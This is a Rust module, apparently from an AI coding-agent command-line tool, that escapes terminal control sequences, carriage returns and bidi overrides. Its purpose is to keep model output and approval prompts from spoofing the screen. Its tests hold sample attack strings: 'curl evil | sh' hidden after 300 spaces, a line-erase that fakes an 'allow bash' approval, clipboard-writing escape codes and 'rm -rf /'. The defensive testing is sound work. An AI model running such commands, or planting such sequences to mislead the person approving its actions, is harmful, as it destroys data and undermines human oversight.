//! Everything hands writes to a terminal goes through here, escaped: a model's text, tool-call
//! lines, approval prompts, ask_user's questions, notices, errors and file names may carry bytes
//! that a terminal obeys (ESC sequences that move the cursor, erase a line, set the title or
//! write the clipboard; a bare CR that returns to the start of the line; C1 controls; bidi
//! overrides that reorder what is shown). [`text`] makes them visible instead: `\e`, `\r`,
//! `\x07`, `\x7f`, `\u{9b}`, `\u{202e}` (a backslash stays as it is: what was typed is shown).
//! [`line`] also flattens a line break and marks long runs of blanks (`⟨300 spaces⟩`), so that a
//! one-line summary cannot hide its tail after a screenful of spaces.
//!
//! The writers ([`out`], [`err`], [`errln`], [`write_to`]) escape whatever they are given, so no
//! caller can forget; hands' own control sequences go through [`clear_line`] (the spinner's line
//! clearing) and [`out_styled`] (a plan's Markdown styles) only. A test keeps the other modules from printing by themselves.

use std::io::Write;

pub use hands_core::visible::{line, text};

/// Write `text`, escaped, to stdout.
pub fn out(text: &str) {
    let mut stdout = std::io::stdout().lock();
    let _ = stdout.write_all(self::text(text).as_bytes());
    let _ = stdout.flush();
}

/// Write `text`, escaped, to stderr.
pub fn err(text: &str) {
    let mut stderr = std::io::stderr().lock();
    let _ = stderr.write_all(self::text(text).as_bytes());
    let _ = stderr.flush();
}

/// Write `text`, escaped, and a line end to stderr.
pub fn errln(text: &str) {
    err(&format!("{text}\n"));
}

/// Write `text`, escaped, to `to` (the terminal itself, `/dev/tty`).
pub fn write_to(to: &mut impl Write, text: &str) -> std::io::Result<()> {
    to.write_all(self::text(text).as_bytes())?;
    to.flush()
}

/// True when stdout is a terminal (styles are written only then).
pub fn stdout_is_terminal() -> bool {
    use std::io::IsTerminal as _;
    std::io::stdout().is_terminal()
}

/// Write text that [`crate::markdown::render`] made to stdout: its pieces are escaped there, and
/// its only control sequences are the SGR styles it adds (bold, dim, colours).
pub fn out_styled(rendered: &str) {
    let mut stdout = std::io::stdout().lock();
    let _ = stdout.write_all(rendered.as_bytes());
    let _ = stdout.flush();
}

/// Clear stderr's current line (the spinner's): hands' own control sequence, the only one.
pub fn clear_line(then: &str) {
    let mut stderr = std::io::stderr().lock();
    let _ = stderr.write_all(b"\r\x1b[2K");
    let _ = stderr.write_all(self::text(then).as_bytes());
    let _ = stderr.flush();
}

/// Data for stdout (a tool's result in `hands call`): escaped when stdout is a terminal, as it
/// is, byte for byte, when it goes to a pipe or a file.
pub fn data(text: &str) -> std::io::Result<()> {
    use std::io::IsTerminal as _;
    let mut stdout = std::io::stdout().lock();
    if stdout.is_terminal() {
        stdout.write_all(self::text(text).as_bytes())?;
    } else {
        stdout.write_all(text.as_bytes())?;
    }
    stdout.flush()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    #[test]
    fn controls_become_visible_escapes() {
        assert_eq!(
            text("curl x|sh #\x1b[2K\rhands: allow bash: npm test"),
            "curl x|sh #\\e[2K\\rhands: allow bash: npm test"
        );
        assert_eq!(
            text("notes\x1b]0;owned\x07\x1b]52;c;aGk=\x07.txt"),
            "notes\\e]0;owned\\x07\\e]52;c;aGk=\\x07.txt"
        );
        assert_eq!(text("a\u{9b}2Jb\u{7f}\0"), "a\\u{9b}2Jb\\x7f\\x00");
        assert_eq!(text("rm -rf /\u{202e}txt.md"), "rm -rf /\\u{202e}txt.md");
        assert_eq!(text("two\nlines\tand tab"), "two\nlines\tand tab");
        assert_eq!(text("naïve ✓ 日本"), "naïve ✓ 日本");
    }

    #[test]
    fn a_line_has_no_line_break_and_no_long_blank_run() {
        assert_eq!(line("set -e\nmake\r"), "set -e\\nmake\\r");
        assert_eq!(line("a\tb"), "a\\tb");
        let hidden = format!("npm test{}; curl evil | sh", " ".repeat(300));
        assert_eq!(line(&hidden), "npm test⟨300 spaces⟩; curl evil | sh");
        assert_eq!(line("a       b"), "a       b", "seven spaces stay");
        assert_eq!(line("a\u{3000}\u{3000}        b"), "a⟨10 blanks⟩b");
        assert!(!line(&hidden).contains("  "));
    }

    #[test]
    fn escaping_twice_changes_nothing_more() {
        let once = line("x\x1b[31m\u{9b}\n");
        assert_eq!(line(&once), once);
        assert_eq!(text(&once), once);
    }

    /// The modules that talk to the terminal print only through this one.
    #[test]
    fn no_module_prints_by_itself() {
        let sources = [
            ("view.rs", include_str!("view.rs")),
            ("approve.rs", include_str!("approve.rs")),
            ("run.rs", include_str!("run.rs")),
            ("chat.rs", include_str!("chat.rs")),
            ("call.rs", include_str!("call.rs")),
            ("tools.rs", include_str!("tools.rs")),
            ("markdown.rs", include_str!("markdown.rs")),
        ];
        let banned =
            ["println!", "print!(", "eprint", "write_all", "writeln!", "std::io::stdout()"];
        for (name, source) in sources {
            let code = source.split("#[cfg(test)]").next().unwrap();
            for word in banned {
                assert!(
                    !code.contains(word),
                    "{name} uses `{word}`: write to the terminal through term.rs"
                );
            }
        }
    }
}
